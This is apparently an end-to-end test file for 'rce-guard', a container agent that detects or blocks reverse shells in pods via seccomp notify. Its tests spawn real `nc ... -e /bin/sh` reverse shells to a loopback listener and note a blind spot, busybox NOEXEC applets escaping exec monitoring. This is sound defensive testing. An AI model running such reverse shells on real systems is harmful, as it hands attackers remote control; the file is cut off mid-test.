//! The whole product on real containerd 1.7 (NRI api 0.6.1) and 2.1 (NRI api 0.8.0), driven
//! through CRI as kubelet drives it: `rce-guard run` adds its annotation over NRI, containerd's
//! runc `BinaryName` is the `rce-guard-runc` wrapper (merges the exec notify rule into
//! config.json), runc 1.1.5 (or crun 1.8.1) hands the seccomp listener fd to the agent's fd
//! holder, and the agent's monitor judges every exec. Real pods open real reverse shells to a
//! listener of the test on 127.0.0.1.
//!
//! Nothing is faked. Each test has its own containerd, agent and holder, so tests run in
//! parallel. Timings (CreateContainer answer latency of the plugin, wrapper cost on `create`)
//! are printed, not asserted: run with `--nocapture` to see them.

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::path::Path;
use std::time::{Duration, Instant};

use rce_guard_e2e::{
    agent_status, cri_api, median, percentile, product_binaries, require_root, status_entry,
    wait_until, Agent, AgentBuilder, AgentConfigFile, ContainerSpec, Containerd, ContainerdOptions,
    Cri, CrunCgroupsFix, CrunWrapper, ExecSession, Pod, PodSpec, ProductBinaries,
    ReverseShellListener, RuntimeHandler, Seccomp, TimingBundle, Version, BUSYBOX_IMAGE,
};
use serde_json::Value;

/// VM_Instance_Name the agents are given.
const NODE: &str = "e2e-node-7";
/// Agent start until it registered over NRI.
const REGISTRATION_TIMEOUT: Duration = Duration::from_secs(20);
/// Pod start until its reverse shell connects (the machine is small and shared).
const CONNECT_TIMEOUT: Duration = Duration::from_secs(30);
/// A command typed into a reverse shell until its output is back.
const SHELL_TIMEOUT: Duration = Duration::from_secs(15);
/// An exec until its finding is on the agent's stdout.
const FINDING_TIMEOUT: Duration = Duration::from_secs(15);
/// Name of the crun runtime handler.
const CRUN: &str = "crun";

macro_rules! on_both_versions {
    ($($name:ident),* $(,)?) => {
        mod v1_7 {
            $( #[test] fn $name() { super::$name(super::Version::V1_7) } )*
        }
        mod v2_1 {
            $( #[test] fn $name() { super::$name(super::Version::V2_1) } )*
        }
    };
}

on_both_versions!(
    reverse_shell_is_reported_with_pod_identity_and_connection,
    reverse_shell_through_crun_is_reported,
    block_mode_denies_every_exec_with_socket_stdio_and_the_pod_keeps_running,
    runtime_default_profile_keeps_denying_with_the_rule_added,
    exec_sync_and_piped_exec_sessions_are_not_findings,
    excluded_namespace_and_agent_pod_are_not_touched,
    ten_pods_at_once_are_all_monitored_and_attributed,
    containers_created_before_the_agent_are_reported_unmonitored,
    speed_of_create_container_answers_and_wrapper_create,
);

// ---------------------------------------------------------------------------------------------
// Set-up shared by the tests.

/// What a test needs besides containerd's defaults.
#[derive(Default)]
struct Options<'a> {
    mode: Option<&'a str>,
    /// Agent config file contents (TOML).
    config: Option<&'a str>,
    /// Add a `crun` runtime handler whose BinaryName is the wrapper named rce-guard-crun.
    crun: bool,
    /// Add a runtime handler `plain` that runs runc itself, without the wrapper.
    plain_runc: bool,
    /// Do not start the agent yet.
    no_agent: bool,
}

/// One containerd with the wrapper as runc, plus (usually) an agent. Field order is drop
/// order: the CRI client, then the agent, then containerd (whose teardown removes the pods and
/// ends the fd holder the agent started).
struct Node {
    cri: Cri,
    agent: Option<Agent>,
    cd: Containerd,
    bins: ProductBinaries,
    _crun: Option<(CrunWrapper, CrunCgroupsFix)>,
    config: Option<AgentConfigFile>,
    mode: String,
}

impl Node {
    fn start(v: Version, opts: Options<'_>) -> Node {
        require_root().expect("root");
        let bins = product_binaries().expect("the product's binaries");
        let mut cd_opts = ContainerdOptions::new(v).runc_binary(&bins.wrapper.to_string_lossy());
        let crun = opts.crun.then(|| {
            // bookworm's crun 1.8.1 refuses containerd 2.1's ociVersion; harmless on 1.7.
            let wrapper = CrunWrapper::new(&bins.wrapper, Some("1.0.2")).expect("crun wrapper");
            let fix = CrunCgroupsFix::acquire().expect("hybrid cgroup layout usable by crun");
            (wrapper, fix)
        });
        if let Some((c, _)) = &crun {
            cd_opts = cd_opts.handler(RuntimeHandler::new(
                CRUN,
                &c.binary_name().to_string_lossy(),
            ));
        }
        if opts.plain_runc {
            cd_opts = cd_opts.handler(RuntimeHandler::new("plain", "runc"));
        }
        let cd = Containerd::start_with(cd_opts).expect("start containerd");
        let cri = cd.cri().expect("CRI client");
        let config = opts
            .config
            .map(|text| AgentConfigFile::new(text).expect("agent config file"));
        let mut node = Node {
            cri,
            agent: None,
            cd,
            bins,
            _crun: crun,
            config,
            mode: opts.mode.unwrap_or("detect").to_string(),
        };
        if !opts.no_agent {
            node.start_agent();
        }
        node
    }

    fn start_agent(&mut self) {
        let mut b = AgentBuilder::for_containerd(&self.cd)
            .mode(&self.mode)
            .arg("--node-name")
            .arg(NODE);
        if let Some(c) = &self.config {
            b = b.config(c.path());
        }
        let agent = b.spawn().expect("spawn the agent");
        agent
            .wait_for_message(0, "registered with runtime", &[], REGISTRATION_TIMEOUT)
            .expect("agent registered over NRI");
        self.agent = Some(agent);
    }

    fn agent(&self) -> &Agent {
        self.agent.as_ref().expect("the agent runs")
    }

    fn listener_path(&self) -> &Path {
        self.agent()
            .listener_path()
            .expect("agent started with a listener path")
    }

    fn status(&self) -> Value {
        agent_status(self.agent()).expect("rce-guard status --json")
    }

    /// Pod + one container; returns both.
    fn pod_with(&self, pod: PodSpec, ctr: ContainerSpec) -> (Pod, String) {
        let pod = self.cri.run_pod(&pod).expect("RunPodSandbox");
        let id = self
            .cri
            .run_container(&pod, &ctr)
            .expect("CreateContainer + StartContainer");
        (pod, id)
    }

    /// The container's init, host pid (the shim writes it into the bundle).
    fn init_pid(&self, container_id: &str) -> i32 {
        let path = self.cd.bundle_dir(container_id).join("init.pid");
        let text = std::fs::read_to_string(&path)
            .unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
        text.trim().parse().expect("init.pid holds a pid")
    }

    /// The container's log (CRI format lines), from the pod's log directory.
    fn container_log(&self, pod: &Pod, name: &str) -> String {
        let path = self
            .cd
            .pod_log_root()
            .join(&pod.spec.uid)
            .join(format!("{name}.log"));
        std::fs::read_to_string(path).unwrap_or_default()
    }

    /// Waits until the container's log contains `needle`.
    fn wait_container_log(&self, pod: &Pod, name: &str, needle: &str) -> String {
        wait_until(SHELL_TIMEOUT, Duration::from_millis(100), || {
            Some(self.container_log(pod, name)).filter(|l| l.contains(needle))
        })
        .unwrap_or_else(|| {
            panic!(
                "container {name} did not log {needle:?}; its log:\n{}",
                self.container_log(pod, name)
            )
        })
    }

    fn is_running(&self, container_id: &str) -> bool {
        self.cri
            .container_status(container_id)
            .map(|s| s.state == cri_api::ContainerState::ContainerRunning as i32)
            .unwrap_or(false)
    }

    /// Prints the plugin's CreateContainer answer latency as `rce-guard status` reports it.
    fn print_create_latency(&self, v: Version, what: &str) -> Value {
        let lat = self.status()["create_container_latency_us"].clone();
        println!(
            "SPEED containerd {} [{what}] plugin CreateContainer answer (us): count {} p50 {} \
             p99 {} max {}",
            v.label(),
            lat["count"],
            lat["p50"],
            lat["p99"],
            lat["max"]
        );
        lat
    }
}

/// `nc 127.0.0.1 <port> -e /bin/sh` as a command line.
fn nc_command(l: &ReverseShellListener) -> Vec<String> {
    l.nc_command()
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// A pod name unique within this test process: each test has its own containerd, but
/// distinct names make the printed findings and kept logs of parallel tests easy to tell apart.
fn unique(prefix: &str) -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static N: AtomicU32 = AtomicU32::new(0);
    format!("{prefix}-{}", N.fetch_add(1, Ordering::Relaxed))
}

/// The finding line for the reverse shell that connected to `port`: the exec of `program`
/// whose stdio is that connection.
fn wait_shell_finding(agent: &Agent, mark: usize, port: u16, program: &str) -> Value {
    agent
        .wait_for_stdout_after(
            mark,
            |f| {
                f["finding"]["processes"][0]["binary"]["path"] == program
                    && f["finding"]["connections"][0]["destinationPort"] == port
            },
            FINDING_TIMEOUT,
        )
        .unwrap_or_else(|e| panic!("no finding for {program} connected to port {port}: {e:#}"))
        .json
}

/// Findings (stdout lines with a finding) from `mark` on.
fn findings_after(agent: &Agent, mark: usize) -> Vec<Value> {
    agent
        .stdout_lines()
        .into_iter()
        .skip(mark)
        .map(|l| l.json)
        .filter(|j| j["finding"].is_object())
        .collect()
}

/// The host-side parent of `pid`.
fn parent_pid(pid: i32) -> i32 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc/pid/status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("PPid:"))
        .and_then(|p| p.trim().parse().ok())
        .expect("PPid in /proc/pid/status")
}

/// Where the reverse shell's process sits, as the test knows it.
#[derive(Debug, Clone, Copy)]
enum ShellPid {
    /// nc was the container's entrypoint (this host pid) and exec'd the shell in place.
    IsInit(i32),
    /// nc was a child of the container's entrypoint (this host pid).
    ChildOf(i32),
}

/// Asserts what a reverse-shell finding must say about the process, the pod and the
/// connection.
fn assert_shell_finding(
    f: &Value,
    action: &str,
    pod: &Pod,
    container: &str,
    who: ShellPid,
    listener_port: u16,
    peer: SocketAddr,
) {
    let ctx = serde_json::to_string_pretty(f).unwrap_or_default();
    let finding = &f["finding"];
    assert_eq!(f["action"], action, "{ctx}");
    assert_eq!(
        finding["category"], "Execution: Possible Remote Command Execution Detected",
        "{ctx}"
    );
    let p = &finding["processes"][0];
    assert_eq!(p["binary"]["path"], "/bin/sh", "{ctx}");
    assert_eq!(p["args"], serde_json::json!(["/bin/sh"]), "{ctx}");
    match who {
        // nc is the container's init and execs the shell in place: same pid, the shim's child.
        ShellPid::IsInit(init) => {
            assert_eq!(
                p["pid"], init,
                "pid is the container init's host pid; {ctx}"
            );
            assert_eq!(
                p["parentPid"],
                parent_pid(init),
                "parentPid is the init's parent (the shim); {ctx}"
            );
        }
        // nc was forked by the container's init (a `sh -c` script).
        ShellPid::ChildOf(init) => {
            assert_eq!(
                p["parentPid"], init,
                "parentPid is the container's init; {ctx}"
            );
            let pid = p["pid"].as_i64().unwrap_or(0);
            assert!(
                pid > 0 && pid != i64::from(init),
                "pid of the forked nc; {ctx}"
            );
        }
    }
    let sp = &finding["sourceProperties"];
    assert_eq!(sp["Pod_Namespace"], pod.spec.namespace.as_str(), "{ctx}");
    assert_eq!(sp["Pod_Name"], pod.spec.name.as_str(), "{ctx}");
    assert_eq!(sp["Container_Name"], container, "{ctx}");
    assert_eq!(sp["Container_Image_Uri"], BUSYBOX_IMAGE, "{ctx}");
    assert_eq!(sp["VM_Instance_Name"], NODE, "{ctx}");
    assert_eq!(sp["Action"], action, "{ctx}");
    let conn = &finding["connections"][0];
    assert_eq!(conn["destinationIp"], "127.0.0.1", "{ctx}");
    assert_eq!(conn["destinationPort"], listener_port, "{ctx}");
    assert_eq!(conn["sourceIp"], peer.ip().to_string(), "{ctx}");
    assert_eq!(
        conn["sourcePort"],
        peer.port(),
        "sourcePort is the peer port the listener accepted; {ctx}"
    );
    assert_eq!(conn["protocol"], "TCP", "{ctx}");
    assert_eq!(
        finding["kubernetes"]["pods"][0]["uid"],
        pod.spec.uid.as_str(),
        "{ctx}"
    );
}

/// The container's `linux.seccomp` from its bundle's config.json.
fn seccomp_of(cd: &Containerd, id: &str) -> Value {
    cd.oci_config(id).expect("config.json")["linux"]["seccomp"].clone()
}

/// Syscall names of the rules with `action`.
fn names_with_action(seccomp: &Value, action: &str) -> BTreeSet<String> {
    seccomp["syscalls"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|r| r["action"] == action)
        .flat_map(|r| r["names"].as_array().cloned().unwrap_or_default())
        .filter_map(|n| n.as_str().map(str::to_string))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// 1. Reverse shell, detect mode.

fn reverse_shell_is_reported_with_pod_identity_and_connection(v: Version) {
    let node = Node::start(v, Options::default());
    detect_reverse_shell(&node, v, "");
    node.print_create_latency(v, "reverse shell (runc)");
}

fn reverse_shell_through_crun_is_reported(v: Version) {
    let node = Node::start(
        v,
        Options {
            crun: true,
            ..Options::default()
        },
    );
    detect_reverse_shell(&node, v, CRUN);
    node.print_create_latency(v, "reverse shell (crun)");
}

fn detect_reverse_shell(node: &Node, v: Version, handler: &str) {
    let agent = node.agent();
    let mut listener = ReverseShellListener::new().expect("listener");
    let port = listener.port();
    let pod_spec = PodSpec::new(&unique("web"))
        .namespace("shop")
        .label("app", "web")
        .runtime_handler(handler);
    let cmd = nc_command(&listener);
    let mark = agent.stdout_mark();
    let (pod, id) = node.pod_with(
        pod_spec,
        ContainerSpec::new("frontend").command(&strs(&cmd)),
    );
    let peer = listener
        .accept(CONNECT_TIMEOUT)
        .expect("reverse shell connects");

    // The commands really run: their output comes back over the socket.
    let out = listener
        .run("id; uname -a", SHELL_TIMEOUT)
        .expect("output of `id; uname -a` over the reverse shell");
    assert!(out.contains("uid=0(root)"), "id output missing: {out:?}");
    assert!(out.contains("Linux"), "uname -a output missing: {out:?}");

    let f = wait_shell_finding(agent, mark, port, "/bin/sh");
    println!(
        "containerd {} ({}): finding for the reverse shell:\n{}",
        v.label(),
        if handler.is_empty() { "runc" } else { handler },
        serde_json::to_string(&f).unwrap_or_default()
    );
    assert_shell_finding(
        &f,
        "allowed",
        &pod,
        "frontend",
        ShellPid::IsInit(node.init_pid(&id)),
        port,
        peer,
    );

    // Commands typed into the shell that exec (busybox sh runs `id` and `uname` as NOEXEC
    // applets, without an exec; `cat` it re-execs through /proc/self/exe) are reported too.
    let hostname = listener
        .run("cat /etc/hostname", SHELL_TIMEOUT)
        .expect("cat over the reverse shell");
    assert!(!hostname.trim().is_empty(), "cat printed nothing");
    let cat_exec = agent
        .wait_for_stdout_after(
            mark,
            |f| {
                f["finding"]["processes"][0]["args"] == serde_json::json!(["cat", "/etc/hostname"])
                    && f["finding"]["connections"][0]["destinationPort"] == port
            },
            FINDING_TIMEOUT,
        )
        .expect("a finding for `cat` typed into the shell")
        .json;
    println!(
        "containerd {}: finding for `cat` typed into the shell: process {}",
        v.label(),
        cat_exec["finding"]["processes"][0]
    );
    assert_eq!(cat_exec["action"], "allowed");
    assert_eq!(
        cat_exec["finding"]["sourceProperties"]["Pod_Name"],
        pod.spec.name.as_str()
    );

    let status = node.status();
    let entry = status_entry(&status, &id).expect("container in rce-guard status");
    assert_eq!(entry["monitored"], true, "{entry}");
    assert!(node.is_running(&id), "the reverse-shell container runs on");
    listener.send("exit").expect("exit the shell");
}

// ---------------------------------------------------------------------------------------------
// 2. Block mode.

/// Namespace whose `/bin/sh` is an exception (so that a shell with socket stdio can exist at
/// all in block mode and its own commands can be watched being refused).
const SHELL_EXCEPTION_NS: &str = "shell-allowed";

fn block_mode_denies_every_exec_with_socket_stdio_and_the_pod_keeps_running(v: Version) {
    let config = format!(
        "[[rule.exceptions]]\ndescription = \"e2e: the listener shell may start\"\n\
         namespaces = [\"{SHELL_EXCEPTION_NS}\"]\nprograms = [\"/bin/sh\"]\n"
    );
    let node = Node::start(
        v,
        Options {
            mode: Some("block"),
            config: Some(&config),
            ..Options::default()
        },
    );
    let agent = node.agent();

    // A: the real attack. nc execs /bin/sh with the socket on stdio: refused with EPERM, so no
    // shell ever answers; the container goes on (it sleeps after nc).
    let mut listener = ReverseShellListener::new().expect("listener");
    let port = listener.port();
    let script = format!(
        "{}; echo nc-exit=$?; exec sleep 3600",
        nc_command(&listener).join(" ")
    );
    let mark = agent.stdout_mark();
    let (pod_a, id_a) = node.pod_with(
        PodSpec::new(&unique("blocked")).namespace("shop"),
        ContainerSpec::new("app").command(&["sh", "-c", &script]),
    );
    let peer = listener.accept(CONNECT_TIMEOUT).expect("nc connects");
    let f = wait_shell_finding(agent, mark, port, "/bin/sh");
    assert_shell_finding(
        &f,
        "blocked",
        &pod_a,
        "app",
        ShellPid::ChildOf(node.init_pid(&id_a)),
        port,
        peer,
    );
    // Nothing answers the attacker: typing gets no output, and nc hangs up.
    let typed = listener.send("id; echo typed-rc=$?");
    let answer = listener
        .read_available(Duration::from_secs(2))
        .unwrap_or_default();
    assert!(
        !answer.contains("uid=") && !answer.contains("typed-rc"),
        "a blocked reverse shell answered: {answer:?} (send: {typed:?})"
    );
    assert!(
        listener.wait_closed(SHELL_TIMEOUT).expect("reading"),
        "nc closes the connection after its exec failed"
    );
    let log = node.wait_container_log(&pod_a, "app", "nc-exit=");
    assert!(
        log.contains("Operation not permitted"),
        "nc reports EPERM for /bin/sh: {log}"
    );
    assert!(!log.contains("nc-exit=0"), "nc must fail: {log}");

    // B: a shell that did get a socket on stdio (its own exec matched an exception): every
    // external command it runs is refused with EPERM; builtins still answer.
    let mut listener_b = ReverseShellListener::new().expect("listener");
    let port_b = listener_b.port();
    let mark_b = agent.stdout_mark();
    let (pod_b, id_b) = node.pod_with(
        PodSpec::new(&unique("shell")).namespace(SHELL_EXCEPTION_NS),
        ContainerSpec::new("app").command(&strs(&nc_command(&listener_b))),
    );
    listener_b
        .accept(CONNECT_TIMEOUT)
        .expect("the excepted shell connects");
    let alive = listener_b
        .run("echo builtin-ok", SHELL_TIMEOUT)
        .expect("builtins of the shell answer");
    assert_eq!(alive, "builtin-ok\n");
    // External commands that busybox sh execs: by path, or applets it re-execs through
    // /proc/self/exe. (`id`, `uname`, `ls` are NOEXEC applets in busybox 1.35: the shell forks
    // and runs them without any exec, so no exec monitor can see or stop them; see below.)
    for cmd in [
        "/bin/id",
        "/bin/busybox uname -a",
        "cat /etc/hostname",
        "sleep 0",
        "/bin/ls /",
    ] {
        let out = listener_b
            .run(&format!("{cmd} 2>&1; echo rc=$?"), SHELL_TIMEOUT)
            .unwrap_or_else(|e| panic!("shell did not answer after `{cmd}`: {e:#}"));
        assert!(
            !out.contains("uid=") && !out.contains("Linux") && !out.contains("proc\n"),
            "`{cmd}` ran in block mode: {out:?}"
        );
        assert!(
            out.contains("Operation not permitted") || out.contains("Permission denied"),
            "`{cmd}` must fail with a permission error: {out:?}"
        );
        assert!(!out.contains("rc=0"), "`{cmd}` must exit non-zero: {out:?}");
        println!(
            "containerd {} block mode, `{cmd}` over the socket: {out:?}",
            v.label()
        );
    }
    // Documented blind spot: a NOEXEC applet runs without an exec.
    let noexec = listener_b
        .run("id 2>&1; echo rc=$?", SHELL_TIMEOUT)
        .expect("shell answers");
    println!(
        "containerd {} block mode, NOEXEC applet `id` in an already connected busybox shell \
         (no exec, so not seen): {noexec:?}",
        v.label()
    );
    let blocked: Vec<Value> = findings_after(agent, mark_b)
        .into_iter()
        .filter(|f| f["finding"]["connections"][0]["destinationPort"] == port_b)
        .collect();
    assert!(
        !blocked.is_empty() && blocked.iter().all(|f| f["action"] == "blocked"),
        "every exec of the excepted shell is reported as blocked: {blocked:?}"
    );
    assert!(
        blocked
            .iter()
            .all(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod_b.spec.name.as_str()),
        "{blocked:?}"
    );
    // The shell's own start was an exception: not reported.
    assert!(
        blocked
            .iter()
            .all(|f| f["finding"]["processes"][0]["binary"]["path"] != "/bin/sh"),
        "{blocked:?}"
    );

    // The pods keep running, and execs without socket stdio work in them.
    for (id, name) in [(&id_a, "A"), (&id_b, "B")] {
        assert!(node.is_running(id), "container {name} must keep running");
        let t = node
            .cri
            .exec_sync(id, &["/bin/true"], Duration::from_secs(20))
            .expect("ExecSync /bin/true");
        assert_eq!(t.exit_code, 0, "/bin/true in {name}: {t:?}");
        let ls = node
            .cri
            .exec_sync(id, &["ls", "/"], Duration::from_secs(20))
            .expect("ExecSync ls /");
        assert_eq!(ls.exit_code, 0, "ls / in {name}: {ls:?}");
        assert!(
            ls.stdout.lines().any(|l| l == "bin"),
            "ls / in {name}: {ls:?}"
        );
    }
    assert!(
        !findings_after(agent, mark)
            .iter()
            .any(|f| f["finding"]["processes"][0]["args"][0] == "/bin/true"),
        "ExecSync must not be reported"
    );
    let stats = node.status()["monitor"].clone();
    assert!(
        stats["denied"].as_u64().unwrap_or(0) >= 6,
        "monitor counted the denials: {stats}"
    );
    node.print_create_latency(v, "block mode");
}

// ---------------------------------------------------------------------------------------------
// 3. RuntimeDefault.

fn runtime_default_profile_keeps_denying_with_the_rule_added(v: Version) {
    let node = Node::start(
        v,
        Options {
            config: Some("[injection]\nexclude_namespaces = [\"unwatched\"]\n"),
            ..Options::default()
        },
    );
    let agent = node.agent();
    // The reference: the same profile as containerd builds it, without our rule.
    let (_, plain_id) = node.pod_with(
        PodSpec::new(&unique("reference")).namespace("unwatched"),
        ContainerSpec::sleeper("ref").seccomp(Seccomp::RuntimeDefault),
    );
    let reference = seccomp_of(&node.cd, &plain_id);
    assert!(
        reference["listenerPath"].is_null(),
        "the excluded reference has our rule: {reference}"
    );
    assert_eq!(reference["defaultAction"], "SCMP_ACT_ERRNO", "{reference}");
    let ref_allowed = names_with_action(&reference, "SCMP_ACT_ALLOW");
    assert!(ref_allowed.contains("execve"), "{reference}");

    let mut listener = ReverseShellListener::new().expect("listener");
    let port = listener.port();
    let script = format!(
        "unshare -U true; echo unshare-rc=$?; exec {}",
        nc_command(&listener).join(" ")
    );
    let mark = agent.stdout_mark();
    let (pod, id) = node.pod_with(
        PodSpec::new(&unique("confined")).namespace("shop"),
        ContainerSpec::new("app")
            .command(&["sh", "-c", &script])
            .seccomp(Seccomp::RuntimeDefault),
    );
    let seccomp = seccomp_of(&node.cd, &id);
    let ctx = serde_json::to_string(&seccomp).unwrap_or_default();
    assert_eq!(
        seccomp["listenerPath"],
        node.listener_path().to_string_lossy().as_ref(),
        "{ctx}"
    );
    assert_eq!(
        seccomp["defaultAction"], "SCMP_ACT_ERRNO",
        "default action kept; {ctx}"
    );
    assert_eq!(
        seccomp["defaultErrnoRet"], reference["defaultErrnoRet"],
        "{ctx}"
    );
    let notify = names_with_action(&seccomp, "SCMP_ACT_NOTIFY");
    assert!(
        notify.contains("execve") && notify.contains("execveat"),
        "{ctx}"
    );
    let allowed = names_with_action(&seccomp, "SCMP_ACT_ALLOW");
    let mut expected = ref_allowed.clone();
    expected.remove("execve");
    expected.remove("execveat");
    assert_eq!(
        allowed, expected,
        "the ALLOW rules are the profile's, minus execve/execveat"
    );
    // unshare is not allowed by the profile (only with CAP_SYS_ADMIN, which pods lack).
    assert!(!allowed.contains("unshare"), "{ctx}");
    let arches: BTreeSet<&str> = seccomp["architectures"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    for arch in reference["architectures"].as_array().into_iter().flatten() {
        assert!(
            arches.contains(arch.as_str().unwrap_or("")),
            "{arch} lost; {ctx}"
        );
    }

    let log = node.wait_container_log(&pod, "app", "unshare-rc=");
    assert!(
        !log.contains("unshare-rc=0"),
        "unshare must stay denied: {log}"
    );
    let peer = listener
        .accept(CONNECT_TIMEOUT)
        .expect("reverse shell connects");
    let out = listener
        .run("unshare -U true 2>&1; echo rc=$?; id", SHELL_TIMEOUT)
        .expect("shell answers");
    assert!(
        out.contains("Operation not permitted") && !out.contains("rc=0"),
        "unshare stays denied inside the shell: {out:?}"
    );
    assert!(
        out.contains("uid=0(root)"),
        "exec works under the profile: {out:?}"
    );
    let f = wait_shell_finding(agent, mark, port, "/bin/sh");
    assert_shell_finding(
        &f,
        "allowed",
        &pod,
        "app",
        ShellPid::IsInit(node.init_pid(&id)),
        port,
        peer,
    );

    // The control: the same script without a profile (and with our rule) may unshare, so
    // the refusal above is the profile's doing, not the machine's.
    let mut control = ReverseShellListener::new().expect("listener");
    let control_script = format!(
        "unshare -U true; echo unshare-rc=$?; exec {}",
        nc_command(&control).join(" ")
    );
    let (control_pod, control_id) = node.pod_with(
        PodSpec::new(&unique("unconfined")).namespace("shop"),
        ContainerSpec::new("app")
            .command(&["sh", "-c", &control_script])
            .seccomp(Seccomp::Unconfined),
    );
    assert!(
        seccomp_of(&node.cd, &control_id)["listenerPath"].is_string(),
        "the control is monitored too"
    );
    let log = node.wait_container_log(&control_pod, "app", "unshare-rc=");
    assert!(
        log.contains("unshare-rc=0"),
        "unconfined unshare works here: {log}"
    );
    control.accept(CONNECT_TIMEOUT).expect("control connects");
    node.print_create_latency(v, "RuntimeDefault");
}

// ---------------------------------------------------------------------------------------------
// 4. ExecSync and piped exec sessions.

fn exec_sync_and_piped_exec_sessions_are_not_findings(v: Version) {
    let node = Node::start(v, Options::default());
    let agent = node.agent();
    let mark = agent.stdout_mark();
    let (pod, id) = node.pod_with(
        PodSpec::new(&unique("probed")).namespace("shop"),
        ContainerSpec::sleeper("worker"),
    );
    let before = node.status()["monitor"].clone();

    // Exec probes / kubectl exec without input: ExecSync.
    for cmd in [
        vec!["/bin/true"],
        vec!["ls", "/"],
        vec!["sh", "-c", "echo probe | cat; id"],
    ] {
        let r = node
            .cri
            .exec_sync(&id, &cmd, Duration::from_secs(20))
            .unwrap_or_else(|e| panic!("ExecSync {cmd:?}: {e:#}"));
        assert_eq!(r.exit_code, 0, "ExecSync {cmd:?}: {r:?}");
        if cmd[0] == "sh" {
            assert!(
                r.stdout.contains("probe") && r.stdout.contains("uid=0"),
                "{r:?}"
            );
        }
    }

    // kubectl exec -i: an interactive shell with piped stdio through the streaming server.
    let mut session = ExecSession::start(&node.cd.grpc_socket(), &id, &["sh"])
        .expect("CRI Exec streaming session");
    session
        .send_stdin("ls /; id; echo session-marker\n")
        .expect("typing into the session");
    let out = session
        .wait_stdout("session-marker", SHELL_TIMEOUT)
        .expect("session output");
    assert!(
        out.contains("uid=0(root)") && out.lines().any(|l| l == "bin"),
        "{out:?}"
    );
    session.send_stdin("exit 0\n").expect("exit");
    let end = session.wait_end(SHELL_TIMEOUT).expect("session ends");
    assert!(end.succeeded(), "exec session status: {:?}", end.status);

    // The monitor saw these execs (each exec brings its own listener fd): "no finding" is a
    // judgement, not blindness.
    let after = node.status()["monitor"].clone();
    let adopted = |s: &Value| s["listeners_adopted"].as_u64().unwrap_or(0);
    let judged = |s: &Value| s["execs_judged"].as_u64().unwrap_or(0);
    assert!(
        adopted(&after) >= adopted(&before) + 4,
        "3 ExecSyncs + 1 session handed listener fds over: before {before}, after {after}"
    );
    // Execs: /bin/true, ls, sh and its `cat` (busybox re-execs cat; `id`, `ls` run as NOEXEC
    // applets without an exec), and the session's sh.
    assert!(
        judged(&after) >= judged(&before) + 5,
        "their execs were judged: before {before}, after {after}"
    );

    // Positive control in the same pod: a reverse shell is reported, so the pipeline works.
    let mut listener = ReverseShellListener::new().expect("listener");
    let rs_id = node
        .cri
        .run_container(
            &pod,
            &ContainerSpec::new("intruder").command(&strs(&nc_command(&listener))),
        )
        .expect("reverse shell container");
    listener
        .accept(CONNECT_TIMEOUT)
        .expect("reverse shell connects");
    let f = wait_shell_finding(agent, mark, listener.port(), "/bin/sh");
    assert_eq!(
        f["finding"]["sourceProperties"]["Container_Name"],
        "intruder"
    );
    let from_worker: Vec<Value> = findings_after(agent, mark)
        .into_iter()
        .filter(|f| f["finding"]["containers"][0]["id"] == id.as_str())
        .collect();
    assert!(
        from_worker.is_empty(),
        "ExecSync / exec sessions were reported: {from_worker:?}"
    );
    assert!(node.is_running(&rs_id));
    node.print_create_latency(v, "exec");
}

// ---------------------------------------------------------------------------------------------
// 5. Excluded namespace and the agent's own pod.

fn excluded_namespace_and_agent_pod_are_not_touched(v: Version) {
    let node = Node::start(
        v,
        Options {
            config: Some("[injection]\nexclude_namespaces = [\"kube-system\", \"legacy\"]\n"),
            ..Options::default()
        },
    );
    let (_, excluded) = node.pod_with(
        PodSpec::new(&unique("old-app")).namespace("legacy"),
        ContainerSpec::sleeper("app"),
    );
    let (_, own) = node.pod_with(
        PodSpec::new(&unique("rce-guard"))
            .namespace("security")
            .label("app.kubernetes.io/name", "rce-guard"),
        ContainerSpec::sleeper("agent"),
    );
    let (_, watched) = node.pod_with(
        PodSpec::new(&unique("web")).namespace("shop"),
        ContainerSpec::sleeper("app").seccomp(Seccomp::RuntimeDefault),
    );
    for (id, why) in [(&excluded, "excluded"), (&own, "own pod")] {
        let spec = node.cd.oci_config(id).expect("config.json");
        let text = spec.to_string();
        assert!(
            !text.contains("listenerPath") && !text.contains("rce-guard.io/seccomp-notify"),
            "{why}: config.json must not have our rule or annotation: {text}"
        );
        // Execs work and bring no listener fd.
        let r = node
            .cri
            .exec_sync(id, &["ls", "/"], Duration::from_secs(20))
            .expect("ExecSync");
        assert_eq!(r.exit_code, 0, "{r:?}");
    }
    let watched_seccomp = seccomp_of(&node.cd, &watched);
    assert_eq!(
        watched_seccomp["listenerPath"],
        node.listener_path().to_string_lossy().as_ref(),
        "the control pod is monitored"
    );

    let status = node.status();
    let entry = |id: &str| status_entry(&status, id).cloned().expect("in status");
    let e = entry(&excluded);
    assert_eq!(e["monitored"], false, "{e}");
    assert_eq!(e["listener_fds"], 0, "{e}");
    assert!(
        e["note"]
            .as_str()
            .unwrap_or("")
            .contains("namespace legacy is excluded"),
        "{e}"
    );
    let o = entry(&own);
    assert_eq!(o["monitored"], false, "{o}");
    assert!(o["note"].as_str().unwrap_or("").contains("own pod"), "{o}");
    let w = entry(&watched);
    assert_eq!(w["monitored"], true, "{w}");
    println!(
        "containerd {}: status notes: excluded {:?}, agent pod {:?}",
        v.label(),
        e["note"],
        o["note"]
    );
    node.print_create_latency(v, "exclusions");
}

// ---------------------------------------------------------------------------------------------
// 6. Ten pods at once.

fn ten_pods_at_once_are_all_monitored_and_attributed(v: Version) {
    const PODS: usize = 10;
    let node = Node::start(v, Options::default());
    let agent = node.agent();
    let mark = agent.stdout_mark();
    let mut listeners: Vec<ReverseShellListener> = (0..PODS)
        .map(|_| ReverseShellListener::new().expect("listener"))
        .collect();
    let commands: Vec<Vec<String>> = listeners.iter().map(nc_command).collect();
    let started = Instant::now();
    let pods: Vec<(String, String, Pod)> = std::thread::scope(|s| {
        let handles: Vec<_> = commands
            .iter()
            .enumerate()
            .map(|(i, cmd)| {
                let cd = &node.cd;
                s.spawn(move || {
                    let cri = cd.cri().expect("CRI client");
